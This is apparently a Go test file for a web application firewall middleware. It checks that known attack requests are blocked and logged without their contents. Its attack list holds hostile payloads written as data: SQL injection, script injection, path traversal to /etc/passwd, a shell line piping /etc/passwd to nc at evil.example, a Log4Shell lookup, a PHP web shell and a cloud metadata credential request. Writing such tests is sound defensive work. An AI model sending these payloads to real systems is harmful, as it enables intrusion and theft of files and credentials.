package firewall_test

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/require"

	"github.com/massrouter/massrouter/http/firewall"
	"github.com/massrouter/massrouter/http/problem"
	"github.com/massrouter/massrouter/http/request"
)

// guarded is a handler behind a firewall; it answers with the body that it got.
func guarded(tb testing.TB, detect bool, log io.Writer) http.Handler {
	tb.Helper()
	f, err := firewall.New(firewall.Options{Detect: detect, Refuse: problem.Write, Logger: zerolog.New(log)})
	require.NoError(tb, err)
	return f.Middleware(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = io.Copy(w, r.Body) }))
}

func send(tb testing.TB, h http.Handler, method, path, body string) *httptest.ResponseRecorder {
	tb.Helper()
	r := httptest.NewRequestWithContext(tb.Context(), method, "http://console.example"+path, strings.NewReader(body))
	r.Header.Set("User-Agent", "Mozilla/5.0")
	r.Header.Set("Accept", "application/json")
	r.Header.Set("Authorization", "Bearer secret-of-the-operator")
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r.WithContext(request.WithClient(r.Context(), request.Client{Address: netip.MustParseAddr("203.0.113.9")})))
	return w
}

// attacks are requests of well-known kinds.
func attacks() map[string][3]string {
	q := url.QueryEscape
	return map[string][3]string{
		"SQL injection in a query":   {"GET", "/console/v1/wallets?cursor=" + q("1' OR '1'='1' -- "), ""},
		"SQL injection in a body":    {"POST", "/console/v1/wallets", `{"owner":"x' UNION SELECT password FROM users--"}`},
		"script in a body":           {"POST", "/console/v1/wallets", `{"owner":"<script>alert(document.cookie)</script>"}`},
		"script in a query":          {"GET", "/console/v1/wallets?x=" + q(`"><img src=x onerror=alert(1)>`), ""},
		"path traversal":             {"GET", "/console/v1/wallets?file=" + q("../../../../etc/passwd"), ""},
		"shell":                      {"POST", "/console/v1/wallets", `{"owner":"; cat /etc/passwd | nc evil.example 4444"}`},
		"Log4Shell":                  {"POST", "/console/v1/wallets", `{"owner":"${jndi:ldap://evil.example/a}"}`},
		"PHP":                        {"POST", "/console/v1/wallets", `{"owner":"<?php system($_GET['c']); ?>"}`},
		"another method":             {"TRACE", "/console/v1/wallets", ""},
		"a server's own address":     {"POST", "/console/v1/wallets", `{"owner":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}`},
		"header injection":           {"GET", "/console/v1/wallets?x=" + q("a\r\nSet-Cookie: session=1"), ""},
		"template injection of Java": {"POST", "/console/v1/wallets", `{"owner":"T(java.lang.Runtime).getRuntime().exec('id')"}`},
	}
}

func TestAttacksAreRefused(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	h := guarded(t, false, &log)
	for name, a := range attacks() {
		w := send(t, h, a[0], a[1], a[2])
		require.Equal(t, http.StatusForbidden, w.Code, name)
		require.Contains(t, w.Header().Get("Content-Type"), "problem+json", name)
	}
	require.Regexp(t, `"rule":949110,.*"refused":true`, log.String())
	for _, said := range []string{"passwd", "UNION", "secret-of-the-operator", "evil.example", "203.0.113.9"} {
		require.NotContains(t, log.String(), said, "what a request said is not logged")
	}
}

func TestDetectionRefusesNothing(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	h := guarded(t, true, &log)
	for name, a := range attacks() {
		require.Equal(t, http.StatusOK, send(t, h, a[0], a[1], a[2]).Code, name)
	}
	require.Contains(t, log.String(), `"rule":949110`)
	require.NotContains(t, log.String(), `"refused":true`)
}

func TestTheHandlerGetsTheBody(t *testing.T) {
	t.Parallel()
	h := guarded(t, false, io.Discard)
	body := `{"owner":"org-71","note":"` + strings.Repeat("plain words ", 2000) + `"}`
	w := send(t, h, "POST", "/console/v1/wallets", body)
	require.Equal(t, http.StatusOK, w.Code)
	require.Equal(t, body, w.Body.String())
	require.Equal(t, http.StatusRequestEntityTooLarge, send(t, h, "POST", "/console/v1/wallets", `{"a":"`+strings.Repeat("a", 256<<10)+`"}`).Code)
	require.Equal(t, http.StatusOK, send(t, h, "GET", "/console/v1/wallets?limit=10&cursor=", "").Code)
}

// BenchmarkRequest is a request to open a wallet, through the firewall and without.
func BenchmarkRequest(b *testing.B) {
	h := guarded(b, false, io.Discard)
	for b.Loop() {
		if w := send(b, h, "POST", "/console/v1/wallets", `{"owner":"org-71","currency":"USD"}`); w.Code != http.StatusOK {
			b.Fatal(w.Code)
		}
	}
}
